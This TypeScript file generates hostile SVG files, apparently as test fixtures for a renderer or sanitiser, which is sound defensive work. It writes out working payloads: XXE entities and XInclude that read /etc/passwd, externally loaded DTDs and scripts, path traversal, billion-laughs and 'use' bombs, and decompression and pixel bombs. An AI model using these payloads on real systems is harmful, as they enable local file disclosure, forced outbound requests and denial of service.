import { gzipSync } from 'node:zlib';

import { pngOf } from '../files/pictures.ts';
import { type Elsewhere, filesOf, type HostileFile } from './hostile-file.ts';
import { most32 } from './numbers.ts';

const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const box = 'viewBox="0 0 100 60" width="100" height="60"';
const background = '<rect width="100" height="60" fill="#246"/>';

/** A drawing with a background, so that it shows something. */
const drawing = (content: string, { attributes = box, before = '' } = {}) =>
  `${before}<svg ${names} ${attributes}>${background}${content}</svg>`;

const dataUrl = (type: string, content: Buffer | string) =>
  `data:${type};base64,${Buffer.from(content).toString('base64')}`;

const entities = Array.from({ length: 12 }, (_none, index) => {
  const value = index === 0 ? 'lol' : `&e${index - 1};`.repeat(10);
  return `<!ENTITY e${index} "${value}">`;
}).join('');

/** Groups that each show the one before ten times, so many deep. */
const tenfold = (depth: number) =>
  `<defs><g id="g0"><path d="M0 0h1"/></g>${Array.from(
    { length: depth },
    (_none, index) => `<g id="g${index + 1}">${`<use href="#g${index}"/>`.repeat(10)}</g>`,
  ).join('')}</defs><use href="#g${depth}"/>`;

const itself = (kind: string) =>
  `<defs><${kind} id="a" width="9" height="9"><rect width="9" height="9" ${kind === 'pattern' ? 'fill' : kind === 'clipPath' ? 'clip-path' : kind}="url(#a)"/></${kind}></defs>`;

const eachOther =
  '<defs><pattern id="a" width="9" height="9"><rect width="9" height="9" fill="url(#b)"/></pattern>' +
  '<pattern id="b" width="9" height="9"><rect width="9" height="9" fill="url(#a)"/></pattern></defs>' +
  '<rect width="100" height="60" fill="url(#a)"/>';

/** What asks for something from elsewhere, in every way that browsers know. */
const asking = ({ url, path }: Elsewhere): HostileFile[] => {
  const file = `file://${path}`;
  const whole = 'width="100" height="60" preserveAspectRatio="none"';
  return filesOf([
    [
      'an entity of a file',
      'xxe.svg',
      drawing('<text y="9">&x;</text>', {
        before: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
      }),
    ],
    [
      'an entity of a server',
      'xxe-url.svg',
      drawing('<text y="9">&x;</text>', {
        before: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]>`,
      }),
    ],
    [
      'entities of a server',
      'parameters.svg',
      drawing('', { before: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${url}/parameters"> %x;]>` }),
    ],
    [
      'a document type of a server',
      'type.svg',
      drawing('', { before: `<!DOCTYPE svg SYSTEM "${url}/type.dtd">` }),
    ],
    [
      'a style sheet of a server',
      'sheet.svg',
      drawing('', { before: `<?xml-stylesheet href="${url}/sheet.css"?>` }),
    ],
    [
      'a picture of a server',
      'image.svg',
      drawing(`<image ${whole} href="${url}/image.png"/>`),
      'picture',
    ],
    [
      'a picture of a server, by its older name',
      'xlink.svg',
      drawing(`<image ${whole} xlink:href="${url}/xlink.png"/>`),
      'picture',
    ],
    ['a picture of a file', 'file.svg', drawing(`<image ${whole} href="${file}"/>`), 'picture'],
    ['a picture of a path', 'path.svg', drawing(`<image ${whole} href="${path}"/>`), 'picture'],
    [
      'a picture of a path that climbs',
      'climb.svg',
      drawing(`<image ${whole} href="../../../../../../../..${path}"/>`),
      'picture',
    ],
    [
      'a part of another drawing',
      'use.svg',
      drawing(`<use href="${url}/use.svg#a"/><use href="${file}#a"/>`),
      'picture',
    ],
    [
      'styles of a server',
      'style.svg',
      drawing(
        `<style>@import url("${url}/style.css"); rect { fill: url("${url}/fill.svg#a"); background: url("${file}") }</style>`,
      ),
    ],
    [
      'a font of a server',
      'font.svg',
      drawing(
        `<style>@font-face { font-family: F; src: url("${url}/font.woff2") }</style><text y="20" font-family="F">a</text>`,
      ),
    ],
    [
      'a filter with a picture of a server',
      'fe-image.svg',
      drawing(
        `<filter id="f"><feImage href="${url}/fe.png"/><feImage href="${file}"/></filter><rect width="50" height="50" filter="url(#f)"/>`,
      ),
    ],
    [
      'a page in it',
      'foreign.svg',
      drawing(
        `<foreignObject width="90" height="50"><html xmlns="http://www.w3.org/1999/xhtml"><img src="${url}/foreign.png"/><iframe src="${file}"/></html></foreignObject>`,
      ),
      'picture',
    ],
    [
      'a script',
      'script.svg',
      drawing(
        `<script>fetch('${url}/script')</script><script href="${url}/src.js"/><rect onload="fetch('${url}/load')" width="1" height="1"/>`,
      ),
      'picture',
    ],
    [
      'a drawing in a drawing that asks',
      'inner.svg',
      drawing(
        `<image ${whole} href="${dataUrl('image/svg+xml', drawing(`<image ${whole} href="${url}/inner.png"/><image ${whole} href="${file}"/>`))}"/>`,
      ),
      'picture',
    ],
    [
      'an inclusion',
      'include.svg',
      drawing(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
      ),
      'picture',
    ],
  ]);
};

const odd = (): HostileFile[] =>
  filesOf([
    [
      'entities that multiply to 300 GB',
      'laughs.svg',
      drawing(`<text y="9">&e11;</text>`, { before: `<!DOCTYPE svg [${entities}]>` }),
      'icon',
    ],
    [
      'an entity of 100 KB, 30 000 times',
      'quadratic.svg',
      drawing(`<text y="9">${'&a;'.repeat(30_000)}</text>`, {
        before: `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100_000)}">]>`,
      }),
    ],
    ['a view of 10^300', 'view.svg', drawing('', { attributes: 'viewBox="0 0 1e300 1e300"' })],
    [
      'sizes that are no numbers',
      'nan.svg',
      drawing('<circle r="NaN"/><path d="MNaN NaNL1 1"/>', {
        attributes: 'width="NaN" height="Infinity" viewBox="0 0 NaN 5"',
      }),
    ],
    [
      'a size of four million million pixels',
      'size.svg',
      drawing('', { attributes: 'width="2000000" height="2000000"' }),
      'icon',
    ],
    [
      'a size of 99 999 by one',
      'thin.svg',
      drawing('', { attributes: 'width="99999" height="1"' }),
    ],
    [
      'negative sizes',
      'negative.svg',
      drawing('', { attributes: 'width="-5" height="-5" viewBox="0 0 -5 -5"' }),
      'icon',
    ],
    [
      'numbers without end',
      'digits.svg',
      drawing(`<rect width="${'9'.repeat(100_000)}" height="1e-${'9'.repeat(50)}"/>`),
    ],
    [
      '100 000 groups in each other',
      'deep.svg',
      drawing(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`),
    ],
    [
      '1000 groups in each other, half of them to be seen through',
      'layers.svg',
      drawing(
        `${'<g opacity="0.5">'.repeat(1000)}<rect width="9" height="9"/>${'</g>'.repeat(1000)}`,
      ),
    ],
    ['100 000 elements', 'many.svg', drawing('<rect width="1" height="1"/>'.repeat(100_000))],
    [
      'a path of 500 000 lines',
      'lines.svg',
      drawing(`<path stroke="red" fill="none" d="M0 0${'l9 9-9-9'.repeat(250_000)}"/>`),
    ],
    [
      'dashes of nearly nothing',
      'dashes.svg',
      drawing('<path stroke="red" stroke-dasharray="0.00001" d="M0 0h1e9"/>'),
    ],
    [
      'a blur without end',
      'blur.svg',
      drawing(
        '<filter id="f" x="-1e9" y="-1e9" width="1e9" height="1e9"><feGaussianBlur stdDeviation="1e9"/></filter><rect width="9" height="9" filter="url(#f)"/>',
      ),
    ],
    [
      '200 filters one after the other',
      'filters.svg',
      drawing(
        `<filter id="f">${'<feGaussianBlur stdDeviation="90"/><feMorphology operator="dilate" radius="90"/>'.repeat(100)}</filter><rect width="90" height="50" filter="url(#f)"/>`,
      ),
    ],
    [
      'turbulence of 10 000 octaves',
      'turbulence.svg',
      drawing(
        '<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="10000"/></filter><rect width="100" height="60" filter="url(#f)"/>',
      ),
    ],
    [
      'lights and a matrix of a million cells',
      'lights.svg',
      drawing(
        `<filter id="f"><feConvolveMatrix order="1000" kernelMatrix="${'1 '.repeat(1_000_000)}"/><feDiffuseLighting surfaceScale="1e30"><fePointLight x="1e30" y="NaN" z="-1e30"/></feDiffuseLighting></filter><rect width="100" height="60" filter="url(#f)"/>`,
      ),
    ],
    [
      'patterns of themselves',
      'pattern.svg',
      drawing(`${itself('pattern')}<rect width="90" height="9" fill="url(#a)"/>`),
    ],
    ['patterns of each other', 'patterns.svg', drawing(eachOther)],
    [
      'a mask of itself',
      'mask.svg',
      drawing(`${itself('mask')}<rect width="90" height="9" mask="url(#a)"/>`),
    ],
    [
      'a clip of itself',
      'clip.svg',
      drawing(`${itself('clipPath')}<rect width="90" height="9" clip-path="url(#a)"/>`),
    ],
    [
      'gradients that go round',
      'gradient.svg',
      drawing(
        '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
      ),
    ],
    [
      'a marker in itself',
      'marker.svg',
      drawing(
        '<marker id="a"><path d="M0 0h9" marker-end="url(#a)"/></marker><path d="M0 0h9" marker-end="url(#a)"/>',
      ),
    ],
    ['an element that uses itself', 'use-itself.svg', drawing('<g id="a"><use href="#a"/></g>')],
    [
      'elements that use each other',
      'use-other.svg',
      drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    ],
    ['10 000 uses of uses', 'use-some.svg', drawing(tenfold(4))],
    ['10 million million uses of uses', 'use-bomb.svg', drawing(tenfold(13))],
    [
      'tiles of nearly nothing',
      'tiles.svg',
      drawing(
        '<pattern id="a" width="0.0001" height="0.0001" patternUnits="userSpaceOnUse"><path d="M0 0h1"/></pattern><rect width="1e6" height="1e6" fill="url(#a)"/>',
      ),
    ],
    [
      'a megabyte of letters',
      'letters.svg',
      drawing(`<text y="20">${'Wi'.repeat(500_000)}</text>`),
    ],
    [
      'a font that is none',
      'font-bomb.svg',
      drawing(
        `<style>@font-face { font-family: F; src: url("${dataUrl('font/woff2', Buffer.alloc(5000, 255))}") }</style><text y="20" font-family="F">a</text>`,
      ),
    ],
    [
      'a picture of 3600 million pixels in it',
      'bomb.svg',
      drawing(
        `<image width="9" height="9" href="${dataUrl('image/png', pngOf(60_000, 60_000, Buffer.alloc(10)))}"/>`,
      ),
    ],
    [
      'a picture of 144 million pixels in it',
      'large.svg',
      drawing(
        `<image width="9" height="9" href="${dataUrl('image/png', pngOf(12_000, 12_000, Buffer.alloc(1501 * 12_000), { depth: 1, colourType: 0 }))}"/>`,
      ),
    ],
    [
      'an animation that does not end',
      'moves.svg',
      drawing(
        '<rect width="9" height="9"><animate attributeName="x" from="0" to="1e9" dur="0.0001s" repeatCount="indefinite"/></rect>',
      ),
      'picture',
    ],
    [
      'compressed, with 64 MB in it',
      'gzip.svg',
      gzipSync(Buffer.alloc(64 * 1024 ** 2, ' '), { level: 1 }),
      'icon',
    ],
    ['in UTF-16', 'utf16.svg', Buffer.from(`\ufeff${drawing('')}`, 'utf16le')],
    ['not closed', 'open.svg', `<svg ${names} ${box}>${'<g>'.repeat(1000)}`, 'icon'],
    [
      'one character above what is drawn',
      'long.svg',
      drawing(`<!--${' '.repeat(4 * 1024 ** 2)}-->`),
      'icon',
    ],
    ['an attribute of 3 MB', 'attribute.svg', drawing(`<g class="${'a '.repeat(1_500_000)}"/>`)],
    [
      '30 000 attributes',
      'attributes.svg',
      drawing(`<g ${Array.from({ length: 30_000 }, (_none, index) => `a${index}=""`).join(' ')}/>`),
    ],
    [
      'selectors that match all of it',
      'selectors.svg',
      drawing(
        `<style>${'g g g g g g g g:first-child * {fill:red}'.repeat(2000)}</style>${'<g>'.repeat(200)}${'</g>'.repeat(200)}`,
      ),
    ],
    [
      'turned and grown beyond all',
      'transform.svg',
      drawing(
        `<g transform="scale(1e38) rotate(1e38) skewX(90) matrix(${most32} 1e38 NaN 0 0 0)"><rect width="1e38" height="1e38"/></g>`,
      ),
    ],
  ]);

export const hostileDrawings = (elsewhere: Elsewhere): HostileFile[] => [
  ...asking(elsewhere),
  ...odd(),
];
